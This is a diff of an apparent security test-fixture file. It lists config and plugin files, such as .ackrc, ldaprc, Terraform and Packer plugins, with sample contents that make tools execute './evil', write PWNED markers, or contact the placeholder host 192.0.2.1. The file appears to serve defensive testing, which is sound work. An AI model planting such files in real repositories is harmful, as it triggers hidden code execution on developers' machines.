@@ -29,7 +29,7 @@ CODE = {
         "_plugins/evil.rb Guardfile Capfile Thorfile Berksfile Podfile Fastfile Brewfile Dangerfile Puppetfile rakefile rakefile.rb gems.rb .simplecov .rubocop.rb .mdl_style.rb "
         ".chef/knife.rb .chef/config.rb config/application.rb config/boot.rb config/environment.rb rakelib/evil.rake lib/tasks/evil.rake script/rails spec/spec_helper.rb evil.gemspec "
         "lib/ripper.rb lib/reline.rb lib/did_you_mean.rb lib/error_highlight.rb lib/debug.rb lib/psych.rb lib/rdoc.rb lib/asciidoctor.rb lib/rubygems_plugin.rb rubygems_plugin.rb "
-        "lib/irb.rb irb.rc _irbrc $irbrc plugins.rb bundler/setup.rb .bundle/plugin/index.rb puppet.rb"
+        "lib/irb.rb thread.rb fiber.rb enumerator.rb rational.rb complex.rb gem.deps.rb Isolate irb.rc _irbrc $irbrc plugins.rb bundler/setup.rb .bundle/plugin/index.rb puppet.rb"
     ),
     "BEGIN { open(my $f, '>', 'PWNED') } 1;\n": (
         "latexmkrc .latexmkrc .perldb .perldbrc Makefile.PL Build.PL cpanfile sitecustomize.pl ExifTool_config .ExifTool_config lib/Evil.pm lib/strict.pm lib/warnings.pm lib/Config.pm "
@@ -70,6 +70,9 @@ SETTINGS = {
     ".proverc": "--exec ./evil\n-PEvil\n-Ilib\n",
     ".mlrrc": "prepipe ./evil\nload evil.mlr\nofs ,\n",
     "evil.mlr": 'func f() { return system("./evil") }\n',
+    "_ackrc": "--pager=./evil\n--output=PWNED\n",
+    "ldaprc": "URI ldap://192.0.2.1\n",
+    ".hunspell_en_US": "evil\n",
     ".ackrc": "--pager=./evil\n--output=PWNED\n",
     ".rgrc": "--pre=./evil\n",
     ".fdrc": "--exec ./evil\n",
@@ -222,6 +225,8 @@ SETTINGS = {
     ".terraform.lock.hcl": 'provider "registry.terraform.io/x/y" {\n  version = "1.0.0"\n}\n',
     ".terraform/environment": "evil",
     ".terraform/terraform.tfstate": '{"version": 3, "backend": {"type": "http", "config": {"address": "http://192.0.2.1/"}}}\n',
+    "terraform.d/plugins/linux_amd64/terraform-provider-x": "#!/bin/sh\ntouch PWNED\n",
+    "packer-plugin-x": "#!/bin/sh\ntouch PWNED\n",
     "terragrunt.hcl": 'inputs = { x = run_cmd("./evil") }\n',
     ".tflint.hcl": 'plugin "x" {\n  enabled = true\n}\n',
     ".tflint.d/plugins/tflint-ruleset-x": "#!/bin/sh\ntouch PWNED\n",
